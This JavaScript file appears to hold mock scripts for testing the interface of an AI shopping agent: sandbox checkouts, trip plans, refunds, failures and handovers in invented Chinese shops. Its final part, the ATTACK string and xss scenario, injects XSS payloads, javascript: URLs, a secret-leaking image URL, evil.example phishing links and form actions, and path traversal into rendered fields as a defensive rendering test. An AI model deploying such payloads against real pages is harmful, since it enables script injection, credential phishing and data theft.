// scripts.mjs: what the mock plays. Shapes are docs/api.md's; the goods are made up.

const CNY = 'CNY';
const today = () => new Date();
const date_in = (days) => new Date(today().getTime() + days * 86_400_000).toISOString().slice(0, 10);

export const demo_profile = () => ({
  demo: true, name: '张伟', phone: '13800000000', address: '上海市徐汇区漕溪北路18号', home_city: '上海', sizes: { shoes: '42', clothes: 'L' },
  passengers: [{ name: '张伟', type: 'adult' }],
  instruments: [
    { id: 'card', kind: 'card', label: '沙盒银行卡 ••4242', default: false },
    { id: 'wallet', kind: 'wallet', label: '沙盒钱包', default: true, balance_minor: 100000, currency: CNY },
  ],
});

const SHOPS = {
  qing: { shop_id: 'qingsong', zh: '青松商城', en: 'Qingsong Mall', origin: 'http://127.0.0.2:9101' },
  hai: { shop_id: 'haitang', zh: '海棠优选', en: 'Haitang Select', origin: 'http://127.0.0.2:9102' },
};

function card(number, shop, zh, title, subtotal, discount, fee, extra = {}) {
  const s = SHOPS[shop];
  return {
    number, shop_id: s.shop_id, shop_name: zh ? s.zh : s.en, origin: s.origin, product_id: `p${number}`, item_id: `i${number}`, title, quantity: 1, currency: CNY,
    unit_minor: subtotal, subtotal_minor: subtotal, discount_minor: discount, coupon: discount ? { code: 'SAVE30', title: '满300减30' } : null,
    delivery: { id: 'std', title: zh ? '标准配送' : 'Standard', fee_minor: fee, date: date_in(2 + number) }, total_minor: subtotal - discount + fee,
    rating: 4.8 - number * 0.1, n_reviews: 1284 - number * 211, stock: number === 3 ? 4 : 120, attrs: {}, options: zh ? { color: '深灰', size: '42' } : { color: 'dark grey', size: '42' },
    checked_ms: Date.now(), why: '', warnings: [], picture_id: `picture-${number}`, ...extra,
  };
}

export function offers(zh) {
  const name = zh ? ['云跑 3 缓震跑步鞋', '轻氧 透气跑鞋 男女同款', '岩途 越野跑鞋', '疾风 竞速跑鞋'] : ['Cloudrun 3 cushioned running shoes', 'Airlite breathable running shoes', 'Rockway trail running shoes', 'Gale racing shoes'];
  return [
    card(1, 'hai', zh, name[0], 35900, 3000, 0, { why: zh ? '用券后比第二家少 21 元，后天到' : '21 yuan less than the next after the coupon' }),
    card(2, 'qing', zh, name[1], 33800, 0, 1200, { why: zh ? '标价最低，但有运费' : 'lowest tag price, but delivery costs extra' }),
    card(3, 'qing', zh, name[2], 39900, 0, 0, { warnings: [zh ? '尺码偏小，评价建议大一码' : 'Runs small: reviews say take one size up'] }),
    card(4, 'hai', zh, name[3], 45900, 3000, 0),
  ];
}

export function terms_of(c, zh, kind = 'wallet') {
  return {
    merchant: { origin: c.origin, name: c.shop_name, key_thumbprint: 'q7h1', sandbox: true },
    lines: [{ item_id: c.item_id, title: c.title, options: c.options, quantity: 1, unit_minor: c.unit_minor }],
    totals: [
      { type: 'subtotal', text: '', amount_minor: c.subtotal_minor },
      ...(c.discount_minor ? [{ type: 'discount', text: zh ? '满300减30' : '30 off 300', amount_minor: -c.discount_minor }] : []),
      { type: 'fulfillment', text: '', amount_minor: c.delivery.fee_minor },
      { type: 'total', text: '', amount_minor: c.total_minor },
    ],
    discounts: c.coupon ? [c.coupon.code] : [],
    fulfilment: { method: c.delivery.title, date: c.delivery.date, address: { name: '张伟', phone: '13800000000', street: '漕溪北路18号', city: '上海市徐汇区' } },
    instrument: kind === 'wallet' ? { id: 'wallet', kind, label: zh ? '沙盒钱包' : 'Sandbox wallet' } : { id: 'card', kind, label: zh ? '沙盒银行卡 ••4242' : 'Sandbox card ••4242' },
    refund_rule: zh ? '签收后 7 天内可无理由退货，运费自理。' : 'Returns within 7 days of delivery; you pay the way back.',
    currency: CNY, total_minor: c.total_minor, expires_ms: 0,
  };
}

// Train out, train back, a room, tickets: what a plan is made of.
function trip(zh) {
  const day = date_in(9), next = date_in(10);
  const part = (shop, title, unit, quantity, travelers, date, undo, refund_rule) => ({
    undo, terms: {
      merchant: { origin: `http://127.0.0.2:${shop[2]}`, name: zh ? shop[0] : shop[1], key_thumbprint: 'q7h1', sandbox: true },
      lines: [{ item_id: `${shop[2]}-${title}`, title, options: {}, quantity, unit_minor: unit }], discounts: [],
      totals: [{ type: 'subtotal', text: '', amount_minor: unit * quantity }, { type: 'total', text: '', amount_minor: unit * quantity }],
      fulfilment: { id: 'seat', method: zh ? '电子票' : 'E-ticket', date, address: { name: '', phone: '', street: '', city: '' } },
      instrument: { id: 'card', kind: 'card', label: zh ? '沙盒银行卡 ••4242' : 'Sandbox card ••4242' }, refund_rule, currency: CNY, total_minor: unit * quantity, expires_ms: 0,
      ...(travelers ? { travelers: [{ name: '张伟', kind: 'adult' }, { name: '李娜', kind: 'adult' }] } : {}),
    },
  });
  const rail = ['通途铁路', 'Tongtu Rail', 9103], stay = ['云栖酒店', 'Yunqi Hotels', 9104], zoo = ['畅游门票', 'Changyou Tickets', 9105];
  const rule = zh ? '开车前8天以上退票免费，48小时以上扣5%。' : 'Free up to 8 days before departure, then 5%.';
  return [
    part(rail, zh ? 'G2 上海虹桥 → 北京南 07:00–11:29 二等座' : 'G2 Shanghai Hongqiao → Beijing South 07:00–11:29 second class', 66200, 2, true, day, { fee_minor: 6620 }, rule),
    part(rail, zh ? 'G25 北京南 → 上海虹桥 17:00–21:36 二等座' : 'G25 Beijing South → Shanghai Hongqiao 17:00–21:36 second class', 66200, 2, true, next, { fee_minor: 6620 }, rule),
    part(stay, zh ? '云栖北京 高级大床房，特惠价，一晚' : 'Yunqi Beijing, superior room, saver rate, one night', 51800, 1, true, day, undefined, zh ? '特惠价不可取消。' : 'Saver rate: no refund.'),
    part(zoo, zh ? '故宫博物院 成人票' : 'Palace Museum, adult', 6000, 2, false, next, { fee_minor: 0 }, zh ? '参观日前一天24:00前免费退票。' : 'Free until midnight before the day of the visit.'),
  ];
}

async function plan_ends(s, state, outcome) {
  const plan = await s.plan(s.zh ? '北京周末' : 'Weekend in Beijing', trip(s.zh));
  if (plan.state !== 'approved') { s.plan_event(plan); return s.done(await s.say(s.zh ? '好的，什么也没买。' : 'All right, nothing was bought.')); }
  const parts = plan.approvals.map((a) => ({ approval_id: a.id, title: a.terms.lines[0].title, n_lines: 1, merchant: a.terms.merchant, state: 'waiting', currency: CNY, total_minor: a.terms.total_minor, paid_minor: 0, back_minor: 0, fee_minor: 0, why: '', what_can_be_done: 'wait' }));
  const show = (now, ends) => {
    plan.state = now;
    const paid_minor = parts.reduce((n, p) => n + p.paid_minor, 0), back_minor = parts.reduce((n, p) => n + p.back_minor, 0);
    plan.result = { state: now, parts, totals: { [CNY]: { paid_minor, back_minor, cost_minor: paid_minor - back_minor, unknown_minor: 0 } } };
    s.plan_event(plan);
    return ends;
  };
  const paid = (p, i) => Object.assign(p, { state: 'stands', paid_minor: p.total_minor, merchant_order_id: `TT-24${i}7`, order_id: `o${i}`, what_can_be_done: 'cancel' });
  show('completing');
  for (const i of [3, 0, 1]) { parts[i].state = 'working'; show('completing'); await s.wait(s.mock.pace_ms * 30); paid(parts[i], i); }
  for (const [i, change] of Object.entries(outcome)) Object.assign(parts[i], change === 'paid' ? paid(parts[i], i) : change);
  show(state);
  s.done(await s.say(s.zh ? '结果见上面的计划单。' : 'The sheet above says how it ended.'));
}

export const plan = (s) => plan_ends(s, 'completed', { 2: 'paid' });
export const plan_undone = (s) => plan_ends(s, 'partial', {
  0: { state: 'refunded', back_minor: 125780, fee_minor: 6620, what_can_be_done: 'none' },
  1: { why: 'fee_higher' },
  2: { state: 'failed', why: 'payment_refused', what_can_be_done: 'again' },
  3: { state: 'refunded', back_minor: 12000, what_can_be_done: 'none' },
});

const found = (zh, shops) => ({ summary: zh ? '2 家店，4 个商品' : '2 shops, 4 offers', shops: shops ?? Object.values(SHOPS).map((s) => ({ shop_id: s.shop_id, name: zh ? s.zh : s.en, ok: true, n_offers: 2 })) });
const query = (zh) => (zh ? { query: '跑步鞋', max_total: 500 } : { query: 'running shoes', max_total: 500 });

async function search(s, shops) {
  const { zh } = s;
  await s.prefill(1180);
  const call_id = await s.tool('search_offers', query(zh), found(zh, shops), 412);
  const cards = offers(zh);
  const reason = zh ? '海棠优选用券后合计 ¥329.00，含运费，是 4 个商品里最便宜的；青松商城最低 ¥350.00。' : 'Haitang Select is the cheapest of 4 at ¥329.00 with coupon and delivery; the best at Qingsong Mall is ¥350.00.';
  s.emit('card', { call_id, cards, cheapest: 1, reason });
  return { cards, reason };
}

async function checkout(s, c, opts = {}) {
  await s.tool('start_checkout', { item: c.number }, { summary: s.zh ? `已备好 ${c.shop_name} 的结账` : `Checkout ready at ${c.shop_name}` }, 160);
  return s.approve(terms_of(c, s.zh, opts.kind), opts);
}

async function finish(s, a) {
  const { zh } = s;
  if (a.state !== 'approved') {
    const text = await s.say(zh ? '好的，什么也没买。' : 'All right, nothing was bought.');
    return s.done(text);
  }
  a.state = 'completing';
  await s.wait(s.mock.pace_ms * 40);
  s.order(a);
  s.done(await s.say(zh ? `已在${a.terms.merchant.name}下单，预计 ${a.terms.fulfilment.date} 送达。` : `Ordered at ${a.terms.merchant.name}; it should arrive on ${a.terms.fulfilment.date}.`));
}

export async function job(s) {
  const { cards, reason } = await search(s);
  await s.say(`${s.zh ? '我比较了两家店的实付价，**海棠优选**的云跑 3 最便宜。请确认条款。' : 'I compared what you would really pay at both shops: **Haitang Select** is the cheapest. Please check the terms.'}\n\n${reason}`);
  await finish(s, await checkout(s, cards[0]));
}

export async function card_pay(s) { await finish(s, await checkout(s, offers(s.zh)[0], { kind: 'card' })); }

export async function broken(s) { await finish(s, await checkout(s, offers(s.zh)[0], { broken_print: true })); }

export async function unknown(s) {
  const a = await checkout(s, offers(s.zh)[0]);
  if (a.state !== 'approved') return finish(s, a);
  a.state = 'unknown';
  s.emit('notice', { level: 'warning', code: 'outcome_unknown', text: s.zh ? '商家在付款时没有答复。' : 'The merchant did not answer while being paid.' });
  while (!s.mock.reconciled) await s.wait(s.mock.pace_ms * 10);
  s.order(a);
  s.done(s.zh ? '核对到了：订单成立。' : 'Checked: the order stands.');
}

// The shop wants the buyer at its own page before the order stands.
export async function needs(s) {
  const a = await checkout(s, offers(s.zh)[0]);
  a.state = 'unknown';
  s.emit('notice', { level: 'warning', code: 'order_needs_you', approval_id: a.id, url: 'https://bank.example/3ds/7', text: 'it needs you' });
  while (!s.mock.reconciled) await s.wait(s.mock.pace_ms * 10);
  s.order(a);
  s.done('');
}

// Nothing of ours pays here: its page does.
export async function handover(s) {
  const { cards } = await search(s), c = cards[0];
  const hand_over = {
    id: 'h1', state: 'open', merchant: { origin: c.origin, name: c.shop_name }, checkout_id: 'co-4711', url: 'https://pay.example/co-4711?x=1', host: 'pay.example', foreign_host: true,
    lines: [{ item_id: c.item_id, title: c.title, options: c.options, quantity: 1, unit_minor: c.unit_minor }], total_minor: c.total_minor, currency: CNY,
    left: ['<b>Sign in first</b>'], created_ms: Date.now(), chat_id: s.turn.chat_id, turn_id: s.turn.id,
  };
  s.mock.hand_over = hand_over;
  s.emit('notice', { level: 'info', code: 'hand_over', text: 'pay there', url: hand_over.url, hand_over_id: 'h1' });
  s.emit('hand_over', { hand_over });
  s.done(await s.say(s.zh ? '这里没有付款。' : 'Nothing was paid here.'));
}

export async function door(s) {
  const { cards } = await search(s), terms = terms_of(cards[0], s.zh);
  terms.merchant.sandbox = false;
  terms.instrument = { id: 'on_delivery', kind: 'on_delivery', label: s.zh ? '货到付款（交给送货员）' : 'pay on delivery (to the carrier)' };
  await finish(s, await s.approve(terms));
}

export async function failed(s) {
  const a = await checkout(s, offers(s.zh)[0]);
  if (a.state !== 'approved') return finish(s, a);
  a.state = 'failed';
  a.failure = s.zh ? '商家说没有库存了，没有扣款。' : 'The merchant is out of stock; nothing was charged.';
  s.emit('error', { code: 'out_of_stock', message: a.failure });
  s.emit('turn_done', { state: 'failed', answer: '', usage: null });
}

export async function down(s) {
  const { zh } = s;
  const [q, h] = Object.values(SHOPS);
  const { cards } = await search(s, [{ shop_id: q.shop_id, name: zh ? q.zh : q.en, ok: false, n_offers: 0, message: zh ? '5 秒内没有回答' : 'no answer within 5 s' }, { shop_id: h.shop_id, name: zh ? h.zh : h.en, ok: true, n_offers: 2 }]);
  s.emit('notice', { level: 'warning', code: 'shop_down', text: zh ? '青松商城没有回答，只比较了海棠优选。' : 'Qingsong Mall did not answer; only Haitang Select was compared.' });
  await finish(s, await checkout(s, cards[0]));
}

export async function question(s) {
  const { zh } = s;
  s.emit('question', { question_id: 'q1', text: zh ? '要什么尺码，送到哪里？' : 'Which size, and where to?', slots: [{ name: 'size', type: 'string', enum: ['41', '42', '43'] }, { name: 'address', type: 'string' }] });
  s.done(zh ? '要什么尺码，送到哪里？' : 'Which size, and where to?');
}

export async function stream(s) {
  const lines = Array.from({ length: 40 }, (_, i) => `${i + 1}. ${s.zh ? '第' : 'Line'} ${i + 1} ${s.zh ? '行：窗外的风很轻。' : 'of a long answer that goes on.'}`);
  s.done(await s.say(`## ${s.zh ? '一个长回答' : 'A long answer'}\n\n${s.zh ? '你好 👋🏽，下面是列表' : 'Hello 👋🏽, a list follows'}:\n\n${lines.join('\n')}\n\n\`\`\`c\nint main(void) { return 0; }\n\`\`\`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n`));
}

export async function think(s) {
  s.done(await s.say(s.zh ? '想好了。' : 'Done.', { reasoning: s.zh ? '先看预算。\n再看尺码。' : 'First the budget.\nThen the size.' }));
}

// A turn of the real model: "#recorded NAME".
export async function recorded(s) { await s.replay(s.turn.text.split(' ')[1]); }

// What a hostile page, shop or model might try.
export const ATTACK = [
  '<script>window.pwned=1</script><img src=x onerror="window.pwned=2">',
  '[click](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>)',
  '![leak](http://127.0.0.1:9/leak.png?secret=1)',
  '<svg onload="window.pwned=5"><style>body{display:none}</style><iframe src="javascript:window.pwned=6"></iframe>',
  '[bank.example](http://evil.example/login)',
  '<a href="http://evil.example" onclick="window.pwned=7">x</a> <form action="http://evil.example"><input></form>',
  '`<b>` and <details ontoggle="window.pwned=8" open>',
].join('\n\n');

export async function xss(s) {
  await s.say(ATTACK);
  const evil = '<img src=x onerror="window.pwned=9">"><script>window.pwned=10</script>';
  const cards = offers(s.zh);
  Object.assign(cards[0], { title: evil, shop_name: evil, why: evil, warnings: [evil], picture_id: `../../${evil}`, options: { [evil]: evil } });
  const call_id = await s.tool('search_offers', { query: evil }, { summary: evil, shops: [{ shop_id: 'x', name: evil, ok: false, n_offers: 0, message: evil }], result: { [evil]: evil } });
  s.emit('card', { call_id, cards, cheapest: 1, reason: evil });
  s.emit('notice', { level: 'warning', code: 'x', text: evil });
  s.emit('question', { question_id: 'q', text: evil, slots: [{ name: evil, type: 'string', enum: [evil] }] });
  const terms = terms_of(cards[0], s.zh);
  terms.merchant.name = terms.refund_rule = terms.fulfilment.method = terms.instrument.label = evil;
  terms.merchant.origin = 'javascript:window.pwned=11';
  await finish(s, await s.approve(terms));
}
